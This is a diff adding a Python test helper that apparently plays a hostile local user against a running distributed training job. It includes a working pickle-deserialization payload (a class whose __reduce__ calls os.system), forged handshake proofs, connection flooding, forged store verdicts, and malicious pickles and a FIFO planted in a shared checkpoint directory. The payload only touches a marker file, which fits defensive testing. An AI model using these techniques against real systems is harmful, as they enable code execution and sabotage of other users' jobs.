@@ -1,0 +1,109 @@
+"""What another user of the machine tries against a running job. Returns what it achieved."""
+
+from __future__ import annotations
+
+import encodings.idna  # noqa: F401  the stranger may not be able to read Python's own files
+import json
+import os
+import pickle
+import socket
+import struct
+import time
+from contextlib import suppress
+from datetime import timedelta
+from pathlib import Path
+
+import torch.distributed as dist
+
+from fabric.core.job_secret import JobSecret
+from fabric.guard.handshake import _ANSWER, _proof
+
+NOBODY = 65534
+IS_ROOT = os.getuid() == 0
+
+
+class Harm:
+    """Unpickled, it makes a file as whoever unpickles it."""
+
+    def __init__(self, file: Path) -> None:
+        self.file = file
+
+    def __reduce__(self):
+        return os.system, (f"touch {self.file}",)
+
+
+def as_stranger(function, *arguments):
+    """Call a function in a process of another user, who is in the files' group; without root: of this one."""
+    reader, writer = os.pipe()
+    child = os.fork()
+    if not child:
+        try:
+            if IS_ROOT:
+                os.setgroups([])
+                os.setgid(os.getgid())
+                os.setuid(NOBODY)
+            told = function(*arguments)
+        except BaseException as error:
+            told = {"error": repr(error)}
+        os.write(writer, json.dumps(told).encode())
+        os._exit(0)
+    os.close(writer)
+    with os.fdopen(reader) as stream:
+        told = json.loads(stream.read())
+    os.waitpid(child, 0)
+    return told
+
+
+def attack_connections(port: int, folder: Path) -> dict:
+    """Read the store, connect as rank 1 before it does, stay silent in many connections, forge a verdict."""
+    store = dist.TCPStore("127.0.0.1", port, None, False, timedelta(seconds=60))
+    end = time.monotonic() + 60
+    while not (found := [key for key in store.list_keys() if "/open " in key and key.endswith("/1/0")]):
+        if time.monotonic() > end:
+            return {"error": f"no group is opened: {store.list_keys()}"}
+        time.sleep(0.05)
+    key = found[0]
+    mark, _, _, listens = store.get(key).decode().split(" ")
+    base, name = key[: key.index("open ")], key[key.index("open ") :]
+    guesses = [b"", mark.encode(), bytes.fromhex(mark)]
+    for other in store.list_keys():
+        if store.check([other]):
+            with suppress(Exception):
+                value = store.get(other)
+                guesses += [value, value.partition(b" ")[0], bytes.fromhex(value.decode())]
+    message = pickle.dumps(Harm(folder / "harm"))
+    silent = [socket.create_connection(("127.0.0.1", int(listens))) for _ in range(150)]
+    for guess in {*guesses}:
+        key = JobSecret(guess).proof(b"connections", name.rpartition("/")[0].encode(), listens.encode())
+        made = socket.create_connection(("127.0.0.1", int(listens)))
+        silent.append(made)
+        made.sendall(_ANSWER.pack(1, bytes(32), _proof(key, b"connects", 1, bytes(32), bytes(32))))
+        with suppress(OSError):  # the proof of a guess is sent blindly: nobody answers before rank 1 is there
+            made.sendall(struct.pack("<q", len(message)) + message)
+    for text in (json.dumps("ended by a stranger"), f"{mark} {json.dumps('ended by a stranger')}"):
+        store.set(f"{base}verdict", text)
+    store.set(f"{base}at/1", json.dumps([1, "host", "has left", "", "by a stranger", None, {}]))
+    (addresses,) = [
+        line.split()[1] for line in Path("/proc/net/tcp").read_text().splitlines() if _listens(line, listens)
+    ] or ["elsewhere"]
+    return {"guesses": len(guesses), "address": addresses, "secret": any(["secret" in k for k in store.list_keys()])}
+
+
+def _listens(line: str, port: str) -> bool:
+    columns = line.split()
+    return columns[1].endswith(f":{int(port):04X}") and columns[3] == "0A"
+
+
+def attack_save(directory: Path, folder: Path) -> list[str]:
+    """Put a pickle, and a pipe, where rank zero reads what rank 1 has written."""
+    done = []
+    for name in ("rank-1.told", "rank-0.told", "rank-1.writes", ".metadata"):
+        with suppress(PermissionError):
+            (directory / name).write_bytes(pickle.dumps(Harm(folder / "harm")))
+            done.append(name)
+    with suppress(PermissionError):
+        os.mkfifo(directory / "pipe")
+        done.append("pipe")
+    with suppress(PermissionError):
+        done += os.listdir(directory)
+    return done
